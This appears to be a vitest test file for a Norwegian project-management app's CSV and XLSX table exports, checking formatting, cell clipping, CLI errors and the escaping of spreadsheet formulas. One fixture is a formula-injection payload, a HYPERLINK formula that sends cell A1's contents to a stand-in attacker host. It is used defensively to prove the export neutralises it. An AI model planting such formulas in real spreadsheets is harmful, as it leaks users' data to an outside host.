import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvNumber, neutraliseFormula, tableToCsv } from '../../electron/export/csv.js';
import { exportWorkbookTable } from '../../electron/export/exportTable.js';
import { createWorkbook, openWorkbook } from '../../electron/workbook/open.js';
import type { Workbook } from '../../electron/workbook/workbook.js';
import { SPREADSHEET_CELL_LIMIT, clipTableCells } from '../../shared/report/cellLimit.js';
import { EXPORT_KINDS, type TableModel } from '../../shared/report/tables.js';
import { expectOneLineError, run } from '../cli/run.js';

/**
 * The tables a project leader sends on: opened the way Excel opens them. The
 * XLSX files are read back with exceljs, the CSV files checked byte by byte.
 */
const HYPERLINK = '=HYPERLINK("http://angriper.example/?d="&A1,"Klikk her")';
const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

describe('tables as CSV and XLSX', () => {
  const dir = mkdtempSync(join(tmpdir(), 'prosjektboka-export-'));
  const file = join(dir, 'plan.prosjektboka');
  let wb: Workbook;

  beforeAll(() => {
    createWorkbook(file).close();
    wb = openWorkbook(file);
    const owner = wb.records.list('person')[0]!.id;
    wb.commands.create('risk', {
      number: 10, title: HYPERLINK, description: 'Formel i tittelen', measures: '+SUM(1;2)\n@tiltak; "sitat"',
      probability: 2, consequence: 3, ownerId: owner,
    });
    const line = wb.records.list('budget-line').find((l) => l.fields.description === 'Prosjektledelse')!.id;
    wb.commands.create('budget-actual', { lineId: line, date: '2021-10-15', amount: 12500, note: 'Oktober' });
    const meeting = wb.commands.create('meeting', { title: 'Oppstart', startsAt: '2021-09-20T09:00', type: 'project_group' });
    wb.commands.create('action', { meetingId: meeting, text: '-Bestille lokale', ownerId: owner, dueDate: '2021-10-01' });
  });
  afterAll(() => {
    wb.close();
    rmSync(dir, { recursive: true, force: true });
  });

  async function xlsx(kind: (typeof EXPORT_KINDS)[number]) {
    const exported = await exportWorkbookTable(wb, kind, 'xlsx', '2022-01-01');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(exported.bytes as unknown as ArrayBuffer);
    return { exported, sheet: book.worksheets[0]! };
  }

  function csvLines(bytes: Buffer): string[][] {
    expect(bytes.subarray(0, 3).equals(BOM)).toBe(true);
    const text = bytes.subarray(3).toString('utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    // No bare LF outside quoted fields: every record ends in CRLF.
    return parseCsv(text);
  }

  it('writes the budget to XLSX with numbers as numbers, totals, a bold frozen header and the kroner format', async () => {
    const { exported, sheet } = await xlsx('budget');
    expect(exported.fileName).toBe('budsjett.xlsx');
    expect(exported.mimeType).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(sheet.name).toBe('Budsjett');
    expect(sheet.getRow(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header).toEqual([
      'Type', 'Beskrivelse', 'Budsjett Prosjektår 1 (01.09.2021–01.09.2022)', 'Budsjett Prosjektår 2 (01.09.2022–31.08.2023)', 'Totalbudsjett',
      'Regnskap Prosjektår 1', 'Regnskap Prosjektår 2', 'Regnskap totalt',
    ]);
    const rows = new Map<string, unknown[]>();
    sheet.eachRow((row, i) => {
      if (i > 1) rows.set(String(row.getCell(2).value), (row.values as unknown[]).slice(1));
    });
    expect(rows.get('Prosjektledelse')).toEqual(['Utgift', 'Prosjektledelse', 318500, 318500, 637000, 12500, 0, 12500]);
    expect(rows.get('Design og trykk rapport')!.slice(2, 5)).toEqual([undefined, 60000, 60000]);
    expect(rows.get('Sum utgifter')!.slice(2, 5)).toEqual([1170000, 1170000, 2340000]);
    expect(rows.get('Sum inntekter')!.slice(2, 5)).toEqual([1170000, 1170000, 2340000]);
    const sumRow = sheet.getRows(2, sheet.rowCount - 1)!.find((r) => r.getCell(2).value === 'Sum utgifter')!;
    expect(sumRow.font?.bold).toBe(true);
    expect(sumRow.getCell(5).numFmt).toBe('#,##0 "kr"');
    expect(sumRow.getCell(5).type).toBe(ExcelJS.ValueType.Number);
  });

  it('keeps the sums below the filter range, after an empty row, so sorting the lines never moves a total', async () => {
    const { sheet } = await xlsx('budget');
    // Read back from the file, the filter is its range as Excel stores it: "A1:H20".
    const [, lastRow] = /^A1:[A-Z]+(\d+)$/.exec(String(sheet.autoFilter))!;
    const filterEnd = Number(lastRow);
    const label = (r: number) => String(sheet.getRow(r).getCell(2).value ?? '');
    for (let r = 2; r <= filterEnd; r++) expect(['Utgift', 'Inntekt']).toContain(sheet.getRow(r).getCell(1).value);
    expect(sheet.getRow(filterEnd + 1).cellCount).toBe(0);
    expect([label(filterEnd + 2), label(filterEnd + 3)]).toEqual(['Sum utgifter', 'Sum inntekter']);
    expect(sheet.rowCount).toBe(filterEnd + 3);

    const csv = (await exportWorkbookTable(wb, 'budget', 'csv', '2022-01-01')).bytes.toString('utf8');
    const lines = csv.slice(1).split('\r\n');
    const blank = lines.indexOf('');
    expect(blank).toBe(filterEnd);
    expect(lines.slice(1, blank).every((l) => /^(Utgift|Inntekt);/.test(l))).toBe(true);
    expect(lines[blank + 1]).toMatch(/^;Sum utgifter;/);
  });

  it('cuts text over the spreadsheet limit of 32 767 characters with a visible marker, and notes which cells', async () => {
    const long = 'å'.repeat(40_000) + 'SLUTT';
    const id = wb.commands.create('risk', { number: 11, title: 'Lang tekst', description: long, measures: '', probability: 1, consequence: 1 });
    try {
      const { exported, sheet } = await xlsx('risks');
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(exported.bytes as unknown as ArrayBuffer);
      const row = sheet.getRows(2, sheet.rowCount - 1)!.find((r) => r.getCell(1).value === 11)!;
      const cell = String(row.getCell(3).value);
      expect(Array.from(cell).length).toBe(SPREADSHEET_CELL_LIMIT);
      expect(cell.endsWith(' … [forkortet: 40\u00a0005 tegn, se merknad]')).toBe(true);
      expect(cell).not.toContain('SLUTT');
      const notes = book.getWorksheet('Merknader Risikoregister')!;
      expect(notes.getRow(2).getCell(1).value).toBe(`C${row.number}`);
      expect(String(notes.getRow(2).getCell(2).value)).toContain('40\u00a0005 tegn');

      const rows = csvLines((await exportWorkbookTable(wb, 'risks', 'csv', '2022-01-01')).bytes);
      const line = rows.find((r) => r[0] === '11')!;
      expect(Array.from(line[2]!).length).toBe(SPREADSHEET_CELL_LIMIT);
      expect(rows.at(-1)![0]).toBe(`Cellen C${rows.indexOf(line) + 1} er forkortet til 32\u00a0767 av 40\u00a0005 tegn (regnearkets grense per celle). Hele teksten står i Prosjektboka.`);
    } finally {
      wb.commands.delete('risk', id);
    }
  });

  it('cuts by characters, never inside an emoji, and leaves text at the limit whole', () => {
    const emoji = '😀'.repeat(SPREADSHEET_CELL_LIMIT + 10);
    const exact = 'x'.repeat(SPREADSHEET_CELL_LIMIT);
    const table: TableModel = {
      kind: 'risks', title: 'T', fileStem: 't', sums: [],
      columns: [{ header: 'A', width: 5 }, { header: 'B', width: 5 }],
      rows: [[{ type: 'text', value: exact }, { type: 'text', value: emoji }]],
    };
    const { table: cut, clipped } = clipTableCells(table);
    expect(clipped).toEqual([{ reference: 'B2', length: SPREADSHEET_CELL_LIMIT + 10 }]);
    expect(cut.rows[0]![0]).toEqual({ type: 'text', value: exact });
    const value = (cut.rows[0]![1] as { value: string }).value;
    expect(Array.from(value).length).toBe(SPREADSHEET_CELL_LIMIT);
    expect(encodeURIComponent(value)).toBeTruthy(); // throws on a lone surrogate
  });

  it('keeps a title that looks like a formula as plain text in XLSX, and dates as dates', async () => {
    const { sheet } = await xlsx('risks');
    const row = sheet.getRows(2, sheet.rowCount - 1)!.find((r) => r.getCell(1).value === 10)!;
    const title = row.getCell(2);
    expect(title.type).toBe(ExcelJS.ValueType.String);
    expect(title.value).toBe(HYPERLINK);
    expect(title.formula).toBeUndefined();
    expect(row.getCell(5).value).toBe(2);
    expect(row.getCell(6).value).toBe(3);
    expect(row.getCell(7).value).toBe(6);
    expect(row.getCell(8).value).toBe('Tiltak må vurderes');

    const milestones = (await xlsx('milestones')).sheet;
    const first = milestones.getRow(2);
    expect(first.getCell(4).value).toBe('September uke 36 2021');
    expect(first.getCell(5).value).toEqual(new Date(Date.UTC(2021, 8, 6)));
    expect(first.getCell(6).value).toEqual(new Date(Date.UTC(2021, 8, 12)));
    expect(first.getCell(5).numFmt).toBe('dd.mm.yyyy');
    expect(first.getCell(8).value).toBe('Ja'); // late on 1 January 2022
    expect(milestones.getRow(1).getCell(11).value).toBe('Kommentar');

    const actions = (await xlsx('actions')).sheet;
    expect(actions.getRow(2).getCell(1).value).toBe('-Bestille lokale');
    expect(actions.getRow(2).getCell(3).value).toEqual(new Date(Date.UTC(2021, 9, 1)));

    const people = (await xlsx('people')).sheet;
    const ina = people.getRows(2, people.rowCount - 1)!.find((r) => r.getCell(1).value === 'Ina Synøve Borsheim')!;
    expect(String(ina.getCell(5).value)).toContain('Prosjektleder');
    expect(String(ina.getCell(5).value)).toContain('Koordinator (Prosjektgruppe B)');
  });

  it('writes CSV that Excel in Norwegian opens: BOM, semicolons, CRLF, plain numbers, dd.mm.yyyy and no formulas', async () => {
    const budget = await exportWorkbookTable(wb, 'budget', 'csv', '2022-01-01');
    expect(budget.fileName).toBe('budsjett.csv');
    expect(budget.mimeType).toBe('text/csv; charset=utf-8');
    const text = budget.bytes.toString('utf8');
    expect(text.startsWith('\ufeffType;Beskrivelse;')).toBe(true);
    expect(text).toContain('\r\nUtgift;Prosjektledelse;318500;318500;637000;12500;0;12500\r\n');
    expect(text).toContain('\r\n;Sum utgifter;1170000;1170000;2340000;12500;0;12500\r\n');
    expect(text).toContain('\r\nUtgift;Design og trykk rapport;;60000;60000;0;0;0\r\n');
    expect(text).toContain('\r\n;Sum inntekter;1170000;1170000;2340000;0;0;0\r\n');
    expect(text.replace(/\r\n/g, '')).not.toContain('\n');

    const risks = await exportWorkbookTable(wb, 'risks', 'csv', '2022-01-01');
    const raw = risks.bytes.toString('utf8');
    // The formula gets a leading apostrophe, and its quotes are doubled inside a quoted field.
    expect(raw).toContain(`;"'=HYPERLINK(""http://angriper.example/?d=""&A1,""Klikk her"")";`);
    // A field with a semicolon, quotes or a line break is quoted; the line break stays inside.
    expect(raw).toContain(`;"'+SUM(1;2)\n@tiltak; ""sitat""";`);
    const rows = csvLines(risks.bytes);
    const ten = rows.find((r) => r[0] === '10')!;
    expect(ten.slice(0, 2)).toEqual(['10', `'${HYPERLINK}`]);
    expect(ten[3]).toBe(`'+SUM(1;2)\n@tiltak; "sitat"`);
    expect(ten.slice(4, 8)).toEqual(['2', '3', '6', 'Tiltak må vurderes']);
    expect(rows.every((r) => r.length === rows[0]!.length)).toBe(true);

    const actions = csvLines((await exportWorkbookTable(wb, 'actions', 'csv', '2022-01-01')).bytes);
    expect(actions[1]!.slice(0, 5)).toEqual([`'-Bestille lokale`, expect.any(String), '01.10.2021', 'Åpen', 'Ja']);
    const milestones = csvLines((await exportWorkbookTable(wb, 'milestones', 'csv', '2022-01-01')).bytes);
    expect(milestones[1]!.slice(0, 6)).toEqual(['1', 'Prosjektgrupper ferdig rekruttert', 'Prosjektår 1', 'September uke 36 2021', '06.09.2021', '12.09.2021']);
  });

  it('neutralises every formula start and writes decimals with a comma', () => {
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) expect(neutraliseFormula(s)).toBe(`'${s}`);
    for (const s of ['Tiltak', '1-2', 'a=b', '']) expect(neutraliseFormula(s)).toBe(s);
    expect(csvNumber(1170000)).toBe('1170000');
    expect(csvNumber(2.5)).toBe('2,5');
    const table: TableModel = {
      kind: 'risks', title: 'T', fileStem: 't', sums: [],
      columns: [{ header: '=Nr', width: 5 }, { header: 'Tall', width: 5 }],
      rows: [[{ type: 'text', value: '-5' }, { type: 'number', value: -5 }]],
    };
    expect(tableToCsv(table).toString('utf8')).toBe("\ufeff'=Nr;Tall\r\n'-5;-5\r\n");
  });

  it('exports from the CLI in both formats, and refuses unknown tables, formats and the workbook as output', async () => {
    const csv = join(dir, 'budsjett.csv');
    const xlsxFile = join(dir, 'risikoer.xlsx');
    // Independent runs of the CLI (in this process), side by side.
    const [a, b, gantt, ods, self, noDir] = await Promise.all([
      run('export', file, 'budget', '--format', 'csv', '--out', csv),
      run('export', file, 'risks', '--format', 'xlsx', '--out', xlsxFile),
      run('export', file, 'gantt', '--format', 'csv', '--out', join(dir, 'x.csv')),
      run('export', file, 'risks', '--format', 'ods', '--out', join(dir, 'x.ods')),
      run('export', file, 'risks', '--format', 'csv', '--out', file),
      run('export', file, 'risks', '--format', 'csv', '--out', join(dir, 'finnes-ikke', 'x.csv')),
    ]);
    expect({ code: a.code, stderr: a.stderr, stdout: a.stdout }).toEqual({ code: 0, stderr: '', stdout: `Skrev ${csv}\n` });
    expect({ code: b.code, stderr: b.stderr }).toEqual({ code: 0, stderr: '' });
    expect(readFileSync(csv).subarray(0, 3).equals(BOM)).toBe(true);
    expect(readFileSync(csv).toString('utf8')).toContain('\r\n;Sum utgifter;1170000;1170000;2340000;12500;0;12500\r\n');
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(xlsxFile);
    expect(book.worksheets[0]!.getRow(2).getCell(2).value).toBe('Mangel på forståelse og eierskap hos ansatte');

    expectOneLineError(gantt, 2, 'Ukjent tabell «gantt»', 'risks, budget, milestones, actions, people');
    expectOneLineError(ods, 2, 'Ukjent format «ods»; bruk csv eller xlsx');
    expectOneLineError(self, 2, 'Vil ikke skrive over', 'arbeidsboka selv');
    expectOneLineError(noDir, 2, 'finnes-ikke finnes ikke; ingenting er skrevet');
  });
});

/** RFC 4180 with CRLF records, as Excel reads it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ';') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else {
      expect(c, 'a bare line break outside quotes').not.toBe('\n');
      field += c;
    }
  }
  return rows;
}
